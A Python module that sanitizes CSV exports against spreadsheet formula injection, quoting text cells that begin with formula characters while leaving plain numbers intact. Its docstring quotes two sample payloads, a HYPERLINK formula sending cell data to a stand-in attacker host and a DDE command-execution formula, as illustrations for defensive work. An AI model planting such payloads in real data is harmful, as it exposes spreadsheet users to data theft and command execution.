"""CSV files the system writes, safe to open in a spreadsheet: every exporter writes through `csv_writer`.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a leading tab or
carriage return can hide one): a lease named ``=HYPERLINK("https://evil.example/?"&A1,"open")`` or
``=cmd|' /C calc'!A0`` in an export runs in the office's Excel ("CSV injection", OWASP). The rule, per cell:

- a number stays a number: ``int``, ``Decimal`` and ``float`` values are written as they are, and so is text
  that is exactly a plain decimal number (``-12.5``, ``0``, ``-0.001``: what our volumes and amounts look like
  once rendered), so a negative volume or an adjustment of ``-150.00`` still sums;
- any other text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in
  front (``'=SUM(A1)``): spreadsheets show the text as typed and run nothing. The quote is part of the cell for a
  program reading the file, which is the price OWASP's guidance accepts for spreadsheet safety;
- ``None`` is an empty cell; dates and everything else are written as ``str(value)`` under the same rule.

docs/platform.md ("CSV exports") describes the rule for the people who read the files.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from decimal import Decimal
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters a spreadsheet may read as the start of a formula (OWASP CSV injection)."""

_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def safe_cell(value: Any) -> Any:
    """The value as one CSV cell, neutralized if it is text a spreadsheet would run (module docstring)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | Decimal | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


class SafeCsvWriter:
    """`csv.writer` whose rows go through `safe_cell`."""

    def __init__(self, stream: IO[str], **options: Any) -> None:
        self._writer = csv.writer(stream, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([safe_cell(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: IO[str], **options: Any) -> SafeCsvWriter:
    """Like `csv.writer(stream, **options)`, every cell made safe for spreadsheets: the one way WellFlow writes a
    CSV (tests/architecture refuses `csv.writer` elsewhere)."""
    return SafeCsvWriter(stream, **options)
